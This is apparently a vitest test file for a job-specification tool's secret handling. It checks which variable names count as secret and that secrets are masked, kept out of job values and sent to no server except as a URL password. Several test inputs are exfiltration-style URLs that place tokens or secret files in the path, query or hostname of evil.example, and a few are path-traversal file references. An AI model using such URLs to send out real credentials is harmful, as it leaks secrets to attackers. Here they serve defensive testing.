// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${…}` is part of the language of specs
/** What came from a secret stays one, and leaves a spec only as the password of a URL or as a whole URL. */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import { createSecrets, looksSecret, secretsInWords } from "../../src/spec/secrets.js";
import { hideSecrets } from "../../src/wiring/hide-secrets.js";
import { resolveConnection } from "../../src/wiring/resolve-connection.js";
import { scratch } from "../support/scratch.js";
import { jobText, makeSpecProject } from "../support/spec-project.js";

const project = makeSpecProject();
afterAll(() => project.remove());
project.write("jobs/secret.txt", "From-A-File-99");
const environment = {
  DB_PASSWORD: "Passw0rd-99",
  GH_PAT: "ghp-Token-99",
  WHOLE: "postgres://me:In-Url-99@db.example/x",
  HOST: "db.example",
  PLAIN: "Server=db;Pwd=Zz-99",
};

async function codes(text: string, more: object = {}): Promise<readonly string[]> {
  project.write("jobs/a.yaml", text);
  const { diagnostics } = await project.mistakes("jobs/a.yaml", { environment, ...more });
  return diagnostics.map(({ code }) => code);
}

test.each([
  ["GH_PAT", true],
  ["SLACK_URL", true],
  ["SENTRY_DSN", true],
  ["STRIPE_SK", true],
  ["NPM_AUTH", true],
  ["BEARER", true],
  ["AZURE_SAS", true],
  ["COOKIE", true],
  ["REDIS_AUTH", true],
  ["DB_PASSWORD", true],
  ["PATH", false],
  ["AUTHOR", false],
  ["REGION", false],
  ["MONKEY_PATCH", false],
  ["PWD", false],
  ["OLDPWD", false],
  ["CONN", true],
  ["DB_CONN", true],
  ["CONNECTION_STRING", true],
  ["AZURE_STORAGE_CONNECTION_STRING", true],
  ["SQLCONNSTR_main", true],
  ["SESSION_ID", true],
  ["PHP_SESSION", true],
  ["HMAC", true],
  ["SIGNING", true],
  ["PRIVATE", true],
  ["CARD_PIN", true],
  ["DBPWD", true],
  ["DB_PW", true],
  ["PASSPHRASE", true],
  ["APP_CREDS", true],
  ["PASSWORD_SALT", true],
  ["TLS_PEM", true],
  ["MASTERKEY", true],
  ["HOME", false],
  ["AWS_REGION", false],
  ["SPIN", false],
  ["PINNED", false],
  ["MAX_CONNECTIONS", false],
  ["CONNECTION_TIMEOUT", false],
  ["PRIVATE_SUBNET", false],
  ["DESIGNING", false],
])("the name %s looks secret: %s", (name, is) => expect(looksSecret(name)).toBe(is));

test.each([
  "{{ var.s }}",
  "{{ var.s | upper }}",
  '{{ var.s | replace: "o", "0" }}',
  '{{ var.s | replace: "From-A-File-99", "x" }}',
  '{{ var.s | lower | replace: "-", "" }}',
])("a variable of a target that holds a secret is in no job: %s", async (template) => {
  for (const secret of [
    "${file:jobs/secret.txt}",
    "${DB_PASSWORD}",
    "${GH_PAT}",
    "${WHOLE}",
    "x${DB_PASSWORD}",
  ]) {
    project.write("nightshift.yaml", `targets: { t: { vars: { s: '${secret}' } } }\n`);
    const add = jobText(`write: { to: out, add: { a: '${template}' } }`);
    expect(await codes(add, { target: "t" }), secret).toContain("spec.secret-in-job");
    const model = jobText(`model: 'm-${template}.onnx'`);
    expect(await codes(model, { target: "t" }), secret).toEqual([
      expect.stringMatching(/^spec\.(secret-in-job|not-supported)$/),
    ]);
  }
});

test.each([
  '{{ ds | date: "${DB_PASSWORD}" | upper }}',
  '{{ ds | replace: "-", "${file:secret.txt}" | lower }}',
  "${GH_PAT}",
  "${WHOLE}",
])("a secret that is written into a job's value is refused, also through a filter: %s", async (text) => {
  project.write("nightshift.yaml", "targets: {}\n");
  const job = jobText("intervals: { every: day }", `write: { to: 'out', add: { a: '${text}' } }`);
  expect(await codes(job)).toContain("spec.secret-in-job");
});

const plainNames = {
  A1: "Server=db;User Id=u;Pwd=Zz-99",
  A2: "host=db user=u password=Zz-99",
  A3: "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=Zz99==;EndpointSuffix=x",
  A4: "BlobEndpoint=https://a.example;SharedAccessSignature=sv=1&sig=Zz-99",
  A5: "https://a.example/data?sv=1&sig=Zz-99",
  A6: "jdbc:postgresql://u:Zz-99@db.example/x",
  A7: "jdbc:sqlserver://db.example;user=u;password = Zz-99",
  A8: "-----BEGIN PRIVATE KEY-----\nWno5OQ\n-----END PRIVATE KEY-----",
  A9: "Endpoint=sb://a.example/;SharedAccessKeyName=n;SharedAccessKey=Zz99=",
  A10: "https://a.example/x?X-Amz-Credential=a&X-Amz-Signature=Zz99",
  A11: "see postgres://u:Zz-99@db.example/x",
  A12: "password='Zz 99' host=db",
};

test.each(Object.keys(plainNames))(
  "a value that holds a secret is one under any name, also as a default, and its secret is masked: %s",
  async (name) => {
    project.write("nightshift.yaml", "targets: {}\n");
    const job = (template: string) => jobText(`write: { to: out, add: { a: '${template}' } }`);
    const secrets = createSecrets();
    expect(await codes(job(`\${${name}}`), { environment: plainNames, secrets })).toContain(
      "spec.secret-in-job",
    );
    const value = plainNames[name as keyof typeof plainNames];
    expect(secrets.mask(value)).not.toMatch(/Zz|Wno5OQ/);
    if (/[\n']/.test(value)) return;
    expect(await codes(job(`\${NOT_SET:-${value}}`))).toContain("spec.literal-password");
    expect(createSecretsOf(secretsInWords([value])).mask(value)).not.toContain("Zz");
  },
);

function createSecretsOf(values: readonly string[]) {
  const secrets = createSecrets();
  for (const value of values) secrets.add(value);
  return secrets;
}

test.each([
  "eu-west-1",
  "/usr/bin:/bin",
  "a=b;c=d",
  "https://a.example/x?signal=1",
  "passwords",
  "pwd",
  "u@db",
])("an ordinary value is none: %s", async (value) => {
  const job = jobText("write: { to: out, add: { a: '${PLAIN}' } }");
  project.write("jobs/a.yaml", job);
  const loaded = await project.load("jobs/a.yaml", { environment: { PLAIN: value } });
  expect(loaded.job.write.add).toEqual({ a: value });
});

test("a function of the author sees no variable whose value holds a secret", () => {
  for (const [name, value] of Object.entries({ ...plainNames, PLAIN: "eu" }))
    process.env[`NSX_${name}`] = value;
  const kept = { ...process.env };
  try {
    hideSecrets();
    expect(Object.keys(process.env).filter((name) => name.startsWith("NSX_"))).toEqual(["NSX_PLAIN"]);
  } finally {
    for (const name of Object.keys(kept)) if (!name.startsWith("NSX_")) process.env[name] = kept[name];
    delete process.env.NSX_PLAIN;
  }
});

test("the refusal of a secret says what may hold one", async () => {
  project.write("jobs/a.yaml", jobText("write: { to: out, add: { a: '${A1}' } }"));
  const { diagnostics } = await project.mistakes("jobs/a.yaml", { environment: plainNames });
  expect(diagnostics).toMatchObject([
    { code: "spec.secret-in-job", suggestion: expect.stringContaining("another variable") },
  ]);
});

test.each([
  "postgres://${GH_PAT}@evil.example/x",
  "postgres://u:p${GH_PAT}@evil.example/x?application_name=${DB_PASSWORD}",
  "postgres://u@evil.example/x?options=${file:secret.txt}",
  "postgres://u@evil.example/${DB_PASSWORD}",
  "postgres://u@${DB_PASSWORD}.evil.example/x",
  "postgres://u:x@evil.example/x?user=${GH_PAT}",
  "postgres://u@evil.example/x?options=${PLAIN}",
])("a secret elsewhere than as the password is sent to no server: %s", async (url) => {
  const input = `input: { from: '${url}', table: t, key: id }`;
  expect(await codes(jobText(input))).toContain("spec.secret-place");
});

test.each(["http://evil.example/${DB_PASSWORD}?f=x", "http://evil.example/?f=${file:secret.txt}"])(
  "a secret in a part of a notify URL is refused: %s",
  async (url) => {
    expect(await codes(jobText(`notify: { webhook: '${url}' }`))).toContain("spec.secret-place");
    project.write("nightshift.yaml", `notify: { webhook: '${url}' }\n`);
    expect(await codes(jobText())).toContain("spec.secret-place");
    project.write("nightshift.yaml", "targets: {}\n");
  },
);

test.each([
  "${WHOLE}",
  "postgres://u:${DB_PASSWORD}@db.example/x",
  "postgres://u@${HOST}/x?password=${DB_PASSWORD}",
])("the whole URL or its password may be a secret: %s", async (url) => {
  project.write("jobs/a.yaml", jobText(`input: { from: '${url}', table: t, key: id }`));
  const { job } = await project.load("jobs/a.yaml", { environment });
  expect(job.input).toMatchObject({ connection: { address: "postgres://db.example:5432/x" } });
  expect(JSON.stringify(job)).not.toContain("99");
});

test("an operator's lists hold", async () => {
  const add = (text: string) => jobText(`write: { to: out, add: { a: '${text}' } }`);
  const only = { environment: { ...environment, NIGHTSHIFT_ENV_ALLOW: "REGION, DB_*", REGION: "eu" } };
  expect(await codes(add("${HOST}"), only)).toContain("spec.variable");
  project.write("jobs/a.yaml", add("${REGION}"));
  await project.load("jobs/a.yaml", only);
  const folder = scratch();
  mkdirSync(join(folder, "in"));
  writeFileSync(join(folder, "in/ok"), "https://hooks.example/abc");
  const dir = { environment: { NIGHTSHIFT_SECRET_DIR: join(folder, "in") } };
  expect(await codes(jobText("notify: { webhook: '${file:secret.txt}' }"), dir)).toContain("spec.variable");
  expect(await codes(jobText(`notify: { webhook: '\${file:${folder}/in/../in/../../x}' }`), dir)).toContain(
    "spec.variable",
  );
  const hook = jobText(`notify: { webhook: '\${file:${folder}/in/ok}' }`);
  project.write("jobs/a.yaml", hook);
  await project.load("jobs/a.yaml", dir);
  const hosts = { ...dir.environment, NIGHTSHIFT_HOSTS: "*.internal,db.example" };
  expect(await codes(hook, { environment: hosts })).toContain("spec.notify-url");
  const connection = (host: string) => ({
    template: `postgres://u@${host}/x`,
    baseDir: "/",
    address: `postgres://${host}:5432/x`,
  });
  expect(resolveConnection(connection("a.internal"), { environment: hosts }).host).toBe("a.internal");
  for (const host of ["evil.example", "db.example.evil", "xdb.example"])
    expect(() => resolveConnection(connection(host), { environment: hosts })).toThrow(
      expect.objectContaining({ code: "refused.host" }),
    );
});

test("finding a short secret in a long text takes no time", () => {
  const secrets = createSecrets();
  secrets.add("a");
  const startedMs = performance.now();
  expect(secrets.find("a".repeat(60_000))).toEqual([]);
  expect(secrets.find("a ".repeat(60_000))).toHaveLength(60_000);
  expect(performance.now() - startedMs).toBeLessThan(5_000);
});
